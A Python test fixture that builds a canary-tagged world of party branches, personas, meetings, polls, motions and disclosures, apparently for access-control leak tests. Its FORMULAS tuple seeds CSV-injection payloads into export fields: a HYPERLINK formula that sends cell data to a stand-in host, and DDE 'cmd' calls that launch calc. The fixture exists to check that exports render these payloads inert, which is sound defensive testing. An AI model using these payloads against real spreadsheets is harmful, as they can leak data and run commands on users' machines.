"""The harness's world: the tree of tests/conftest.py with objects of every kind in branches a, b and c, the
town and its neighbour — each built through the real services, each text marked with a canary (canaries.py)
that says who may read it.

    示范县委 county
      ├ 城关镇党委 town      ← olga: officer; victor: supervisor (both read a, b and the town)
      │   ├ 东街 a           ← sam: secretary; alice: member; petra: probationary; a1…a8 members
      │   └ 西街 b           ← bella: secretary; bob: member; b1…b8 members
      └ 河口镇党委 town2     ← tina: officer
          └ 河口村 c         ← cindy: secretary; c1…c8 members

No persona reads anything of town2 or c: every canary there is a leak wherever it shows. Branch b's canaries
are leaks for a's people and the reverse; anonymous visitors read only what is published to society.
"""

from __future__ import annotations

import datetime as dt
import secrets
from dataclasses import dataclass, field

from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone

from ballots import services as engine
from branches import services as branch_services
from branches.models import Meeting, Member, Organisation, User
from branches.roster import XLSX_CONTENT_TYPE, preview_roster
from motions import services as motions
from openness import services as openness
from tests.ballots.conftest import make_poll, passphrases_of
from tests.branches.test_roster import member_row, xlsx_bytes
from tests.factories import MemberFactory, OrganisationFactory, UserFactory
from tests.motions import motion_helpers
from tests.openness.conftest import ALL_CHECKS
from tests.openness.pdfs import plain_pdf

from .canaries import Audience, Canaries
from .world_elections import election_on_notice, election_requested, election_to_candidates

# Meetings of the world start within hours of being scheduled: on another day (near midnight) that is an
# urgent meeting, which needs its reason (the service drops it on the scheduled day).
URGENT = "上级临时部署"

# The personas of the matrix (tests/conftest.py's, style.md's six), and what each may read, for the canaries'
# labels (see canaries.Audience). petra is in the world but not in the matrix: a probationary member reads
# what alice reads, so she would double the requests and find nothing alice's would not.
AUDIENCES = {
    "alice": Audience("alice", branch="a"),
    "sam": Audience("sam", branch="a", reads={"a"}),
    "bob": Audience("bob", branch="b"),
    "olga": Audience("olga", branch="town", reads={"town"}),
    "victor": Audience("victor", branch="town", reads={"town"}, discipline={"town"}),
    "anonymous": Audience("anonymous", authenticated=False),
}
PERSONAS = list(AUDIENCES)


@dataclass
class Branch:
    key: str
    org: Organisation
    secretary: User
    officer: User  # of the committee above, who reviews (secrecy) and approves
    higher: User  # another approver above, for what the officer reviewed (the duties are separate)
    members: dict[str, Member] = field(default_factory=dict)  # username → member, all with logins

    def m(self, username: str) -> Member:
        return self.members[username]

    @property
    def voting(self) -> list[Member]:
        return [m for m in self.members.values() if m.category == "full"]


@dataclass
class World:
    canaries: Canaries
    orgs: dict[str, Organisation]
    users: dict[str, User]  # personas and the world's other people, by username
    branches: dict[str, Branch]
    # The one-time tokens handed out, by the URL name that takes them: (token, the canaries it may show).
    tokens: dict[str, list[tuple[str, frozenset[str]]]] = field(default_factory=dict)
    formula_fields: list[str] = field(default_factory=list)

    def audience(self, persona: str) -> Audience:
        return AUDIENCES[persona]


def _person(username, org, *, category="full", role=None, name=None, role_org=None) -> User:
    user = UserFactory(username=username)
    member = MemberFactory(organisation=org, category=category, user=user, name=name or username)
    if role:
        branch_services.assign_role(
            actor=None, member=member, organisation=role_org or org, kind=role, starts_on=dt.date(2024, 1, 1)
        )
    return user


def build_world() -> World:
    cn = Canaries()
    county = OrganisationFactory(name="示范县委", kind="committee", unit_type="organ")
    town = OrganisationFactory(name="城关镇党委", kind="committee", unit_type="organ", parent=county)
    town2 = OrganisationFactory(name="河口镇党委", kind="committee", unit_type="organ", parent=county)
    a = OrganisationFactory(name="东街社区党支部", parent=town, unit_type="community")
    b = OrganisationFactory(name="西街社区党支部", parent=town, unit_type="community")
    c = OrganisationFactory(name="河口村党支部", parent=town2, unit_type="village")
    orgs = dict(county=county, town=town, town2=town2, a=a, b=b, c=c)

    users = {
        "sam": _person("sam", a, role="secretary", name="孙书记"),
        "alice": _person("alice", a, name="艾丽斯"),
        "petra": _person("petra", a, category="probationary", name="裴预备"),
        "bob": _person("bob", b, name="鲍勃"),
        "olga": _person("olga", town, role="officer", name="欧干部"),
        "victor": _person("victor", town, role="supervisor", name="魏监督"),
        "bella": _person("bella", b, role="secretary", name="白书记"),
        "cindy": _person("cindy", c, role="secretary", name="岑书记"),
        "tina": _person("tina", town2, role="officer", name="田干部"),
        "kurt": _person("kurt", county, role="officer", name="柯干部"),  # reviews town2's items
    }
    branches = {
        "a": Branch("a", a, users["sam"], users["olga"], users["victor"]),
        "b": Branch("b", b, users["bella"], users["olga"], users["victor"]),
        "c": Branch("c", c, users["cindy"], users["tina"], users["kurt"]),
    }
    surnames = {"a": "东", "b": "西", "c": "河"}
    for key, br in branches.items():
        for i in range(1, 9):
            user = UserFactory(username=f"{key}{i}")
            MemberFactory(organisation=br.org, name=f"{surnames[key]}{'一二三四五六七八'[i - 1]}", user=user)
            users[user.username] = user
        br.members = {
            m.user.username: m for m in Member.objects.filter(organisation=br.org).select_related("user")
        }
    world = World(canaries=cn, orgs=orgs, users=users, branches=branches)
    for br in branches.values():
        _members(world, br)
        _meetings_and_polls(world, br)
        _proposals_and_inquiries(world, br)
        _topics(world, br)
        _motions(world, br)
        _evaluations(world, br)
        _disclosures(
            world,
            br.key,
            br.org,
            author=br.secretary,
            reviewer=br.officer,
            approver=br.secretary,
            higher=br.higher,
        )
    # Elections last (ending a notice moves the clock a month on for a moment); one per branch at a time:
    # a's has its candidates fixed (pages, questions), b's pre-candidates are on notice (objections).
    election_to_candidates(world, branches["a"])
    election_on_notice(world, branches["b"])
    election_requested(world, branches["c"])
    # The committees above: items and meetings of the town (read by a's and b's people) and of town2 (by none).
    olga, tina = users["olga"], users["tina"]
    _disclosures(world, "town", town, author=olga, reviewer=users["victor"], approver=olga, few=True)
    _disclosures(world, "town2", town2, author=tina, reviewer=users["kurt"], approver=tina, few=True)
    for key, org, actor in (("town", town, olga), ("town2", town2, tina)):
        branch_services.schedule_meeting(
            actor=actor,
            organisation=org,
            kind="committee",
            title=cn.mint(f"int:{key}", f"meeting of {key}") + " 党委会议",
            agenda=cn.mint(f"int:{key}", f"agenda of {key}'s meeting"),
            starts_at=timezone.now() + dt.timedelta(days=3),
        )
    openness.open_obligations()  # what the compliance board and its export show
    _formulas(world, branches["a"])
    _sit_in_and_roster(world, branches["a"])
    # The check-in QR of a meeting is shown in the room: whoever holds it may read the meeting's title.
    for meeting in Meeting.objects.exclude(checkin_token=""):
        shows = frozenset(cn.found(f"{meeting.title} {meeting.agenda}"))
        world.tokens.setdefault("branches:checkin", []).append((meeting.checkin_token, shows))
    return world


# --- spreadsheet formulas, an open meeting, a roster import -------------------------------------------------
# Text that a spreadsheet would run if an export wrote it as it is (OWASP "CSV injection"); each seed is in a
# column of an export (test_exports.py finds it there, made inert), and ends with a canary like any text.
FORMULAS = (
    '=HYPERLINK("http://x/?a="&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
)  # and no "\r…": every service strips its text, and XML reads a carriage return as a line feed


def _formulas(world: World, br: Branch) -> None:
    cn, k, sec = world.canaries, br.key, br.secretary
    f_link, f_plus, f_minus, f_at, f_tab = FORMULAS
    m1, m2 = br.m(f"{k}1"), br.m(f"{k}2")
    proposal = motions.file_proposal(
        actor=m1.user,
        proposer=m1,
        title=f"{f_link} {cn.mint(f'int:{k}', 'proposal titled as a formula')}",
        content="公式标题的建议",
    )
    motions.register_proposal(actor=sec, proposal=proposal)
    secretary = Member.objects.get(user=sec)
    motions.assign_proposal(actor=sec, proposal=proposal, responsible=secretary, department=f_minus)
    motions.record_progress(actor=sec, proposal=proposal, text=f"{f_at} {cn.mint(f'int:{k}', 'progress')}")
    motions.file_inquiry(
        actor=m2.user,
        author=m2,
        kind="ask",
        subject=f"{f_plus} {cn.mint(f'int:{k}', 'inquiry subject as a formula')}",
        questions="公式主题的询问",
    )
    reporter = br.m(f"{k}6")
    motions.file_report(
        actor=reporter.user,
        reporter=reporter,
        kind="accusation",
        content=cn.mint(f"disc:{k}:nobody", "report on someone described") + " 反映情况",
        accused_description=f"{f_at} {cn.mint(f'disc:{k}:nobody', 'accused described as a formula')}",
    )
    branch_services.update_member(
        actor=sec,
        member=br.m(f"{k}2"),
        address=f"{f_tab} {cn.mint(f'mgr:{k}', 'address as a formula')}",
        job=f"{f_plus} {cn.mint(f'mgr:{k}', 'job as a formula')}",
        notes=f"{f_link} {cn.mint(f'mgr:{k}', 'notes as a formula')}",
    )


def _sit_in_and_roster(world: World, br: Branch) -> None:
    """An open meeting of a (三会开放: its agenda is published, on the public board too) that bob asks to sit
    in on, and a roster file uploaded by a's secretary and not yet applied (its preview)."""
    cn, k, sec = world.canaries, br.key, br.secretary
    meeting = branch_services.schedule_meeting(
        actor=sec,
        organisation=br.org,
        kind="general",
        title=cn.mint("soc", "open meeting") + " 开放式党员大会",
        agenda=cn.mint("soc", "agenda of the open meeting"),
        starts_at=timezone.now() + dt.timedelta(days=5),
        is_open=True,
    )
    branch_services.request_sit_in(user=world.users["bob"], meeting=meeting, reason="列席学习")
    rows = [member_row(br.org.name, name="新党员", notes=cn.mint(f"mgr:{k}", "notes in a roster file"))]
    preview_roster(
        actor=sec,
        organisation=br.org,
        uploaded_file=SimpleUploadedFile("花名册.xlsx", xlsx_bytes(rows), content_type=XLSX_CONTENT_TYPE),
    )


# --- branches: records, roles, meetings, polls ----------------------------------------------------------------


def _members(world: World, br: Branch) -> None:
    cn, k, sec = world.canaries, br.key, br.secretary
    first = br.m(f"{k}1")
    branch_services.update_member(
        actor=sec,
        member=first,
        address=cn.mint(f"mgr:{k}", f"address of {first.name}") + " 东大街1号",
        notes=cn.mint(f"mgr:{k}", f"notes on {first.name}"),
        job=cn.mint(f"mgr:{k}", f"job of {first.name}"),
    )
    branch_services.add_household(
        actor=sec, member=first, head_name=cn.mint(f"mgr:{k}", "household head"), address="东大街2号"
    )
    branch_services.link_liaison(actor=sec, upper=first, lower=br.m(f"{k}2"), kind="contact")
    branch_services.assign_role(
        actor=sec, member=br.m(f"{k}3"), organisation=br.org, kind="propaganda", starts_on=dt.date(2024, 1, 1)
    )
    if k == "a":
        alice = Member.objects.get(user=world.users["alice"])
        branch_services.update_member(actor=sec, member=alice, notes=cn.mint("own:a:alice", "alice's notes"))


def _meetings_and_polls(world: World, br: Branch) -> None:
    cn, k, sec = world.canaries, br.key, br.secretary
    branch_services.schedule_meeting(
        actor=sec,
        organisation=br.org,
        kind="general",
        title=cn.mint(f"int:{k}", "scheduled meeting") + " 支部党员大会",
        agenda=cn.mint(f"int:{k}", "agenda of the scheduled meeting"),
        location="二楼",
        starts_at=timezone.now() + dt.timedelta(days=10),
    )
    closed = branch_services.schedule_meeting(
        actor=sec,
        organisation=br.org,
        kind="committee",
        title=cn.mint(f"int:{k}", "closed meeting") + " 支委会",
        agenda="议程",
        starts_at=timezone.now() + dt.timedelta(hours=2),
    )
    branch_services.start_meeting(actor=sec, meeting=closed, urgent_reason=URGENT)
    branch_services.record_minutes(actor=sec, meeting=closed, minutes=cn.mint(f"int:{k}", "minutes"))
    branch_services.close_meeting(actor=sec, meeting=closed)

    live = branch_services.schedule_meeting(
        actor=sec,
        organisation=br.org,
        kind="general",
        title=cn.mint(f"int:{k}", "meeting in progress") + " 支部党员大会",
        agenda="选举",
        starts_at=timezone.now() + dt.timedelta(hours=1),
    )
    branch_services.start_meeting(actor=sec, meeting=live, urgent_reason=URGENT)
    everyone = list(br.members.values())
    for m in everyone:
        if m.user.username != f"{k}8":  # one absent, to be excluded from 应到
            branch_services.sign_in(actor=sec, meeting=live, member=m, method="secretary")
    branch_services.request_exclusion(actor=sec, meeting=live, member=br.m(f"{k}8"), reason="away")
    br.live_meeting = live
    options = [br.m(f"{k}1"), br.m(f"{k}2"), br.m(f"{k}3")]
    scrutineers = [br.m(f"{k}4"), br.m(f"{k}5")]

    def poll(state, **kwargs):
        title = cn.mint(f"int:{k}", f"poll {state}") + " 选举支部委员"
        p = make_poll(live, sec, options=options, scrutineers=scrutineers, **kwargs)
        p.title = title  # the engine takes the title at creation only; keep make_poll's course
        type(p).objects.filter(pk=p.pk).update(title=title)
        return p

    poll("draft", seal=False, open_=False)
    poll("sealed", open_=False)
    poll("open", allow_write_in=True)
    closed_poll = poll("closed")
    engine.close_poll(actor=sec, poll=closed_poll)
    for state in ("counted", "published", "void"):
        p = poll(state, secrecy="named" if state == "published" else "secret")
        marks = {str(p.options.order_by("position").first().pk): "for"}
        for voter in [m for m in br.voting if m.user.username != f"{k}8"][:5]:
            engine.cast_ballot(
                user=voter.user, poll=p, marks=marks, write_ins=[], idempotency_key=secrets.token_urlsafe(24)
            )
        engine.close_poll(actor=sec, poll=p)
        engine.count_poll(actor=sec, poll=p, passphrases=passphrases_of(p))
        if state == "published":
            engine.publish_poll(actor=sec, poll=p)
        if state == "void":
            engine.void_poll(actor=sec, poll=p, reason=cn.mint(f"int:{k}", "void reason"))


# --- motions app ----------------------------------------------------------------------------------------------


def _proposals_and_inquiries(world: World, br: Branch) -> None:
    cn, k, sec = world.canaries, br.key, br.secretary
    m1, m2 = br.m(f"{k}1"), br.m(f"{k}2")

    def proposal(state):
        return motions.file_proposal(
            actor=m1.user,
            proposer=m1,
            title=cn.mint(f"int:{k}", f"proposal {state}") + " 修缮路灯",
            content=cn.mint(f"int:{k}", f"text of the proposal {state}") + " 路灯损坏三处。",
        )

    proposal("submitted")
    cosigning = motions.file_proposal(
        actor=m1.user,
        proposer=m1,
        title=cn.mint(f"int:{k}", "proposal cosigning") + " 联名建议",
        content="联名建议内容",
        cosigners=[m2, br.m(f"{k}3")],
    )
    motions.cosign_proposal(actor=m2.user, proposal=cosigning, member=m2, confirm=True)
    declined = proposal("declined")
    motions.decline_proposal(actor=sec, proposal=declined, reason=cn.mint(f"int:{k}", "decline reason"))
    secretary = Member.objects.get(user=sec)
    for state in ("assigned", "answered"):
        p = proposal(state)
        motions.register_proposal(actor=sec, proposal=p)
        motions.assign_proposal(actor=sec, proposal=p, responsible=secretary, department="村委会")
        motions.record_progress(actor=sec, proposal=p, text=cn.mint(f"int:{k}", "proposal progress"))
        if state == "answered":
            motions.extend_proposal(
                actor=sec, proposal=p, days=5, reason=cn.mint(f"int:{k}", "extension reason")
            )
            motions.answer_proposal(
                actor=sec, proposal=p, outcome="adopted", reasons=cn.mint(f"int:{k}", "proposal answer")
            )

    asked = motions.file_inquiry(
        actor=m1.user,
        author=m1,
        kind="ask",
        subject=cn.mint(f"int:{k}", "inquiry subject") + " 党费使用",
        questions=cn.mint(f"int:{k}", "inquiry questions"),
    )
    answered = motions.file_inquiry(
        actor=m2.user,
        author=m2,
        kind="ask",
        subject=cn.mint(f"int:{k}", "answered inquiry") + " 经费",
        questions="经费用在哪里？",
    )
    motions.answer_inquiry(
        actor=sec, inquiry=answered, mode="written", text=cn.mint(f"int:{k}", "inquiry answer")
    )
    motions.rate_inquiry(actor=m2.user, inquiry=answered, satisfied=False)
    del asked
    motions.add_inquiry_day(
        actor=sec,
        organisation=br.org,
        date=timezone.localdate() + dt.timedelta(days=20),
        receiver=secretary,
        location=cn.mint(f"int:{k}", "inquiry day location"),
    )
    # The confidential channel: a member reports the secretary, who must never see it.
    reporter = br.m(f"{k}6")
    motions.file_report(
        actor=reporter.user,
        reporter=reporter,
        kind="accusation",
        content=cn.mint(f"disc:{k}:{sec.username}", "report on the secretary") + " 优亲厚友",
        accused=secretary,
    )
    taken = motions.file_report(
        actor=reporter.user,
        reporter=reporter,
        kind="complaint",
        content=cn.mint(f"disc:{k}:{k}2", f"report on {k}2") + " 打击报复",
        accused=m2,
    )
    if k != "c":  # victor, the town's supervisor, handles a's and b's reports
        motions.take_up_report(actor=world.users["victor"], report=taken)


def _topics(world: World, br: Branch) -> None:
    cn, k, sec = world.canaries, br.key, br.secretary

    def topic(state):
        return motions.put_forward_topic(
            actor=sec,
            organisation=br.org,
            title=cn.mint(f"int:{k}", f"topic {state}") + " 集体经济收益分配",
            description=cn.mint(f"int:{k}", f"description of the topic {state}"),
            source="branch",
        )

    topic("proposed")
    rejected = topic("rejected")
    motions.review_topic(actor=sec, topic=rejected, accept=False, note=cn.mint(f"int:{k}", "topic note"))
    scheduled = topic("scheduled")
    motions.review_topic(actor=sec, topic=scheduled, accept=True)
    motions.call_topic_meeting(
        actor=sec, topic=scheduled, starts_at=timezone.now() + dt.timedelta(days=8), location="会议室"
    )
    group = motions.form_discussion_group(
        actor=sec,
        topic=scheduled,
        name=cn.mint(f"int:{k}", "discussion group") + " 第一组",
        leader=br.m(f"{k}1"),
        recorder=br.m(f"{k}2"),
    )
    motions.record_group_discussion(actor=sec, group=group, record=cn.mint(f"int:{k}", "group record"))


def _motions(world: World, br: Branch) -> None:
    cn, k, sec = world.canaries, br.key, br.secretary
    motion_helpers.draft(br.org, sec, title=cn.mint(f"mgr:{k}", "draft motion") + " 租赁方案")
    meeting = motion_helpers.general_meeting(br.org, sec)
    circulated = motion_helpers.draft(br.org, sec, title=cn.mint(f"int:{k}", "circulated motion") + " 方案")
    motion_helpers.to_circulated(circulated, sec, meeting)
    motions.comment_on_motion(
        actor=br.m(f"{k}1").user,
        motion=circulated,
        member=br.m(f"{k}1"),
        text=cn.mint(f"int:{k}", "motion comment"),
    )
    passed = motion_helpers.draft(br.org, sec, title=cn.mint(f"int:{k}", "passed motion") + " 修路方案")
    motion_helpers.to_circulated(passed, sec, meeting)
    voting = br.voting
    motion_helpers.run_vote(passed, sec, present=voting, votes_for=len(voting))
    passed.refresh_from_db()
    motions.assign_implementation(actor=sec, motion=passed, responsible=Member.objects.get(user=sec))
    motions.add_milestone(
        actor=sec,
        motion=passed,
        title=cn.mint(f"int:{k}", "milestone"),
        due_on=timezone.localdate() + dt.timedelta(days=30),
    )
    motions.record_motion_progress(
        actor=sec, motion=passed, text=cn.mint(f"int:{k}", "motion progress"), percent=30
    )


def _evaluations(world: World, br: Branch) -> None:
    cn, k, sec = world.canaries, br.key, br.secretary
    evaluation = motions.start_member_evaluation(actor=sec, organisation=br.org, year=2026)
    author = br.m(f"{k}1")
    motions.submit_self_assessment(
        actor=author.user, evaluation=evaluation, member=author, text=cn.mint(f"own:{k}:{k}1", "assessment")
    )
    motions.advance_member_evaluation(actor=sec, evaluation=evaluation)
    motions.submit_peer_review(
        actor=author.user,
        evaluation=evaluation,
        author=author,
        subject=br.m(f"{k}2"),
        text=cn.mint(f"own:{k}:{k}1", "peer review"),
    )
    leadership = motions.start_leadership_evaluation(
        actor=sec,
        organisation=br.org,
        period="2026 上半年",
        held_on=timezone.localdate(),
        report=cn.mint(f"int:{k}", "leadership report"),
    )
    motions.add_question(
        actor=sec,
        evaluation=leadership,
        asked_by="群众",
        question=cn.mint(f"int:{k}", "leadership question"),
        answer="本月",
    )
    _inv, token = motions.invite_representative(actor=sec, evaluation=leadership, name="群众代表王")
    world.tokens.setdefault("motions:rate", []).append((token, frozenset()))
    secretary = Member.objects.get(user=sec)
    rating = motions.create_public_rating(
        actor=sec, organisation=br.org, leader=secretary, title=cn.mint(f"int:{k}", "open public rating")
    )
    _inv, token = motions.invite_public_rater(actor=sec, rating=rating, name="村民甲")
    world.tokens["motions:rate"].append((token, frozenset({rating.title.split()[0]})))
    published = motions.create_public_rating(
        actor=sec, organisation=br.org, leader=secretary, title=cn.mint("soc", "published public rating")
    )
    for i in range(2):
        _inv, token = motions.invite_public_rater(actor=sec, rating=published, name=f"村民{i}")
        motions.rate_by_invitation(token=token, values={"0": "good", "1": "fair"})
    motions.publish_public_rating(actor=sec, rating=published)
    report = motions.record_two_way_report(
        actor=sec,
        organisation=br.org,
        secretary=secretary,
        period="2026",
        to_higher=cn.mint(f"int:{k}", "report to the higher committee"),
        to_members=cn.mint(f"int:{k}", "report to the members"),
    )
    motions.record_two_way_rating(actor=sec, report=report, audience="members", counts={"good": 5})


# --- disclosure -----------------------------------------------------------------------------------------------


def _disclosures(world: World, k: str, org, *, author, reviewer, approver, higher=None, few=False) -> None:
    cn = world.canaries
    body = "<p>{}</p><p>经支部委员会研究决定，现将有关事项公开如下。</p>"

    def item(state, label, **fields):
        return openness.create_item(
            actor=author,
            organisation=org,
            category="daily",
            title=cn.mint(label, f"item {state}") + " 党费收缴情况",
            body=body.format(cn.mint(label, f"body of the item {state}")),
            **fields,
        )

    def reviewed(obj):
        openness.submit_item(actor=author, item=obj, reviewer=reviewer)
        openness.pass_secrecy_review(actor=reviewer, item=obj, checks=ALL_CHECKS)
        obj.refresh_from_db()
        return obj

    def attach(obj, label):
        name = cn.mint(label, f"attachment of the {obj.status} item") + ".pdf"
        openness.add_attachment(
            actor=author,
            item=obj,
            upload=SimpleUploadedFile(name, plain_pdf(), content_type="application/pdf"),
        )

    def published(state, label, *, attached=False, **fields):
        obj = item(state, label, **fields)
        if attached:
            attach(obj, label)
        reviewed(obj)
        to_society = fields.get("scope") == "society" and org.kind == "branch"  # approved above
        openness.approve_item(actor=higher if to_society else approver, item=obj)
        obj.refresh_from_db()
        return obj

    attach(item("draft", f"mgr:{k}"), f"mgr:{k}")
    internal = published("internal", f"int:{k}", attached=True, scope="internal")
    published("society", "soc", attached=True, scope="society")
    if few:  # a committee: its own catalogue entry
        openness.save_entry(
            actor=author,  # a committee keeps catalogue entries for its subtree
            organisation=org,
            key=f"harness-{k}",
            name=f"{FORMULAS[0]} {cn.mint(f'int:{k}', 'catalogue entry')}",  # in the compliance export
            description="本级党委自定的公开事项",
            category="daily",
            frequency="yearly",
            applies_to=["branch"],
            deadline_working_days=5,
            scope="internal",
            notice_working_days=None,
            starts_on=dt.date(2026, 1, 1),
        )
        return
    in_review = item("in review", f"mgr:{k}")
    openness.submit_item(actor=author, item=in_review, reviewer=reviewer)
    returned = item("returned", f"mgr:{k}")
    openness.submit_item(actor=author, item=returned, reviewer=reviewer)
    openness.return_item(actor=reviewer, item=returned, comment=cn.mint(f"mgr:{k}", "return comment"))
    ranged_member = world.branches[k].m(f"{k}7")
    published("range", f"own:{k}:{k}7", scope="range", range_members=[ranged_member])
    commenter = world.branches[k].m(f"{k}1")
    feedback = openness.give_feedback(
        user=commenter.user, item=internal, kind="comment", body=cn.mint(f"own:{k}:{k}1", "feedback")
    )
    openness.answer_feedback(actor=author, feedback=feedback, answer=cn.mint(f"own:{k}:{k}1", "answer"))
